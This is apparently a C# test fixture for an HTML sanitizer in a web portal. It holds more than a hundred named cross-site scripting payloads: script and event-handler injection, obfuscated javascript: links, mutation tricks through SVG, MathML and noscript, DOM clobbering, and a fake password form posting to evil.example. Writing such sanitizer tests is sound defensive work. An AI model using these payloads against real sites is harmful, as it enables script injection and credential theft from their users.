namespace Portal.Tests.Html;

/// <summary>
/// Hostile markup, by name. Every script in it calls alert, every address of it lies on evil.example, so that one watcher
/// sees both in a real browser. Written for these tests from the classes of attack known against cleaners.
/// </summary>
public static class Payloads
{
    private const string Img = "<img src=x onerror=alert(1)>";

    public static IReadOnlyDictionary<string, string> All { get; } = new Dictionary<string, string>(StringComparer.Ordinal)
    {
        // scripts
        ["script"] = "<p>a</p><script>alert(1)</script>",
        ["script_source"] = "<script src=https://evil.example/a.js></script>",
        ["script_upper_case"] = "<ScRiPt>alert(1)</sCrIpT>",
        ["script_unclosed"] = "<p>a<script>alert(1)",
        ["script_nested_in_itself"] = "<scr<script>ipt>alert(1)</scr</script>ipt>",
        ["script_with_slash"] = "<script/x>alert(1)</script/x>",
        ["script_module"] = "<script type=module>import 'https://evil.example/m.js'</script>",
        ["script_in_comment_end"] = "<!--><script>alert(1)</script>-->",
        ["script_in_comment_bang"] = "<!-- a --!><script>alert(1)</script>",
        ["script_in_cdata"] = "<![CDATA[><script>alert(1)</script>]]>",
        ["script_in_processing_instruction"] = "<?xml version=1?><script>alert(1)</script>",
        ["script_after_null"] = "<\0script>alert(1)</script><scr\0ipt>alert(1)</script>",
        ["script_in_textarea"] = "<textarea></textarea><script>alert(1)</script>",
        ["script_in_title"] = "<title></title><script>alert(1)</script>",
        ["script_in_xmp"] = "<xmp></xmp><script>alert(1)</script>",
        ["script_in_plaintext"] = "<p>a<plaintext><script>alert(1)</script>",

        // handlers
        ["handler_on_picture"] = Img,
        ["handler_slash_separated"] = "<img/src=x/onerror=alert(1)>",
        ["handler_without_blank"] = "<img src=\"x\"onerror=\"alert(1)\">",
        ["handler_upper_case"] = "<IMG SRC=x ONERROR=alert(1)>",
        ["handler_with_line_end"] = "<img src=x onerror\n=\nalert(1)>",
        ["handler_on_allowed_picture"] = "<img src=\"/tep/a.jpg\" onload=alert(1) onerror=alert(1)>",
        ["handler_on_paragraph"] = "<p onmouseover=alert(1) onclick=alert(1)>a</p>",
        ["handler_focus"] = "<p tabindex=1 autofocus onfocus=alert(1)>a</p>",
        ["handler_on_unknown_element"] = "<xss onpointerenter=alert(1) contenteditable>a</xss>",
        ["handler_toggle"] = "<details open ontoggle=alert(1)><summary>a</summary>b</details>",
        ["handler_body_load"] = "<body onload=alert(1)><p>a</p></body>",
        ["handler_marquee"] = "<marquee onstart=alert(1)>a</marquee>",
        ["handler_animation"] = "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationstart=alert(1)>a</p>",
        ["handler_video"] = "<video><source onerror=alert(1) src=https://evil.example/v></video>",
        ["handler_audio"] = "<audio src=https://evil.example/a onerror=alert(1) autoplay></audio>",
        ["handler_in_cell"] = "<table><tr><td onclick=alert(1) background=https://evil.example/b.png>a</td></tr></table>",
        ["handler_popover"] = "<button popovertarget=x>a</button><div id=x popover onbeforetoggle=alert(1)>b</div>",

        // addresses
        ["address_javascript"] = "<a href=javascript:alert(1)>a</a>",
        ["address_mixed_case"] = "<a href=\"JaVaScRiPt:alert(1)\">a</a>",
        ["address_entity"] = "<a href=\"&#106;&#x61;vascript&colon;alert&lpar;1&rpar;\">a</a>",
        ["address_long_entity"] = "<a href=\"&#0000106avascript:alert(1)\">a</a>",
        ["address_tab"] = "<a href=\"jav&Tab;ascript:alert(1)\">a</a>",
        ["address_line_end"] = "<a href=\"java\nscript&NewLine;:alert(1)\">a</a>",
        ["address_control_before"] = "<a href=\"\u0001\u001f javascript:alert(1)\">a</a>",
        ["address_no_break_before"] = "<a href=\"&nbsp;javascript:alert(1)\">a</a>",
        ["address_zero_width"] = "<a href=\"java\u200Bscript:alert(1)\">a</a>",
        ["address_null"] = "<a href=\"java\0script:alert(1)\">a</a>",
        ["address_vbscript"] = "<a href=\"vbscript:alert(1)\">a</a>",
        ["address_data"] = "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>",
        ["address_data_base64"] = "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">a</a>",
        ["address_blob"] = "<a href=\"blob:https://evil.example/1\">a</a>",
        ["address_file"] = "<a href=\"file:///etc/passwd\">a</a>",
        ["address_view_source"] = "<a href=\"view-source:javascript:alert(1)\">a</a>",
        ["address_backslashes"] = "<a href=\"\\\\evil.example\\a\">a</a><a href=\"/\\evil.example\">b</a>",
        ["address_user_name"] = "<a href=\"https://haiphong.gov.vn@evil.example/\">a</a>",
        ["address_attribute_breakout"] = "<a href='https://a.vn/\"onmouseover=\"alert(1)'>a</a>",
        ["address_title_breakout"] = "<a href=/x title='\"><img src=x onerror=alert(1)>'>a</a>",
        ["address_ping"] = "<a href=/x ping=https://evil.example/ping>a</a>",
        ["picture_javascript"] = "<img src=javascript:alert(1)>",
        ["picture_data_svg"] = "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        ["picture_foreign"] = "<img src=https://evil.example/pixel.png>",
        ["picture_foreign_without_scheme"] = "<img src=//evil.example/pixel.png>",
        ["picture_up_the_tree"] = "<img src=/tep/../dang-xuat><img src=/tep/%2e%2e/dang-xuat><img src=/tep//evil.example/x>",
        ["picture_srcset"] = "<img src=/tep/a.jpg srcset=\"https://evil.example/a.png 1x\" lowsrc=https://evil.example/l.png>",
        ["picture_alt_breakout"] = "<img src=/tep/a.jpg alt='\"><script>alert(1)</script>'>",
        ["picture_element"] = "<picture><source srcset=https://evil.example/a.webp><img src=/tep/a.jpg></picture>",
        ["image_alias"] = "<image src=x onerror=alert(1)>",

        // styles
        ["style_expression"] = "<p style=\"width:expression(alert(1))\">a</p>",
        ["style_background"] = "<p style=\"background:url(https://evil.example/bg.png)\">a</p>",
        ["style_element"] = "<style>@import 'https://evil.example/a.css';body{background:url(//evil.example/b)}</style>",
        ["style_element_breakout"] = "<style><style/><img src=x onerror=alert(1)>",
        ["style_overlay"] = "<div style=\"position:fixed;inset:0;z-index:9999\"><a href=https://evil.example>a</a></div>",
        ["link_stylesheet"] = "<link rel=stylesheet href=https://evil.example/a.css><link rel=prefetch href=https://evil.example/p>",

        // elements that act
        ["meta_refresh"] = "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
        ["meta_refresh_javascript"] = "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        ["base"] = "<base href=https://evil.example/><a href=x>a</a><img src=y>",
        ["iframe"] = "<iframe src=https://evil.example/></iframe>",
        ["iframe_srcdoc"] = "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
        ["iframe_javascript"] = "<iframe src=javascript:parent.alert(1)>",
        ["object_data"] = "<object data=https://evil.example/o type=text/html><img src=x onerror=alert(1)></object>",
        ["embed"] = "<embed src=https://evil.example/e>",
        ["applet"] = "<applet code=https://evil.example/a></applet>",
        ["frameset"] = "<frameset onload=alert(1)><frame src=https://evil.example/f></frameset>",
        ["form_action"] = "<form action=https://evil.example/><input name=mat_khau type=password><button>Đăng nhập</button></form>",
        ["form_attribute"] = "<button form=x formaction=javascript:alert(1)>a</button><input type=image src=https://evil.example/i "
            + "formaction=javascript:alert(1)>",
        ["form_is_index"] = "<isindex action=javascript:alert(1) type=submit>",
        ["portal"] = "<portal src=https://evil.example/></portal>",
        ["dialog"] = "<dialog open>Nhập lại mật khẩu <a href=javascript:alert(1)>a</a></dialog>",

        // svg, math, namespaces
        ["svg_load"] = "<svg onload=alert(1)>",
        ["svg_script"] = "<svg><script>alert(1)</script></svg>",
        ["svg_script_entity"] = "<svg><script>&#97;lert(1)</script></svg>",
        ["svg_animate"] = "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>a</text></a></svg>",
        ["svg_use"] = "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image "
            + "href='https://evil.example/i'/></svg>#x\"/></svg>",
        ["svg_foreign_object"] = "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        ["svg_style_mutation"] = "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
        ["svg_title_mutation"] = "<svg><title><style><!--</style><img src=x onerror=alert(1)>--></style></title></svg>",
        ["svg_desc_mutation"] = "<svg><desc><noscript></desc></svg><img title=\"</noscript><img src=x onerror=alert(1)>\">",
        ["math_link"] = "<math><mi xlink:href=javascript:alert(1) href=javascript:alert(1)>a</mi></math>",
        ["math_style_mutation"] = "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
        ["math_form_mutation"] = "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        ["math_annotation"] = "<math><annotation-xml encoding=text/html><style><img title=\"</style><img src=x onerror=alert(1)>\"></annotation-xml></math>",
        ["math_malignmark"] = "<math><mtext><malignmark><mglyph></mglyph><style><!--</style><a title=\"--><img src=x onerror=alert(1)>\">",
        ["namespace_prefix"] = "<svg:script>alert(1)</svg:script><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        ["vml"] = "<v:shape onload=alert(1) style=\"behavior:url(#default#VML)\"><v:imagedata src=https://evil.example/v.png /></v:shape>",

        // mutation through reparsing
        ["noscript_title"] = "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        ["noscript_style"] = "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
        ["noembed"] = "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
        ["noframes"] = "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
        ["template"] = "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
        ["template_shadow_root"] = "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
        ["textarea_title"] = "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
        ["select_mutation"] = "<select><style></select><img src=x onerror=alert(1)></style></select>",
        ["table_mutation"] = "<table><style></table><img src=x onerror=alert(1)></style></table>",
        ["table_foster"] = "<table><a href=javascript:alert(1)><tr><td><table><a href=javascript:alert(1)><img src=x onerror=alert(1)></table>",
        ["nested_links"] = "<a href=/a><table><tr><td><a href=javascript:alert(1)>a</a></td></tr></table></a>",
        ["backtick_quotes"] = "<p title=\"``onmouseover=alert(1)\">a</p><img src=\"x` `<script>alert(1)</script>\"` `>",
        ["unclosed_attribute"] = "<p title=\"<img src=x onerror=alert(1)>",
        ["unclosed_tag"] = "<p>a</p><img src=x onerror=alert(1) <b",
        ["misnested"] = "<b><p><i></b><a href=javascript:alert(1)></p></i><img src=x onerror=alert(1)></a>",
        ["double_escaped"] = "<p>&lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>",
        ["entity_without_end"] = "<p>&ltscript&gtalert(1)&lt/script&gt</p>",
        ["full_width_brackets"] = "<p>\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E</p>",
        ["combining_after_tag"] = "<p><b>\u0338</b>\u0338a</p><p>\u0338script</p>",
        ["half_surrogates"] = "<p>\uD800<b>\uDC00</b>a\uDFFF</p>",
        ["utf7"] = "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        ["conditional_comment"] = "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if true]><img src=x onerror=alert(1)><![endif]>",

        // clobbering and reach
        ["clobbering"] = "<a id=body name=location href=/x>a</a><img name=cookie id=forms src=/tep/a.jpg><p id=__proto__ name=querySelector>b</p>",
        ["clobbering_form"] = "<form id=document><input name=body></form><a id=defaultView><a id=defaultView name=x>b</a></a>",
        ["class_reach"] = "<p class=\"rz-dialog\" data-blazor=\"x\" data-action=\"delete\" is=\"x-y\" slot=\"a\" part=\"b\">a</p>",
        ["target_opener"] = "<a href=https://evil.example/ target=_blank rel=opener>a</a>",
        ["accesskey"] = "<p accesskey=x contenteditable=true draggable=true onkeydown=alert(1)>a</p>",
        ["micro_data"] = "<p itemscope itemtype=https://evil.example/T itemprop=name>a</p>",
    };
}
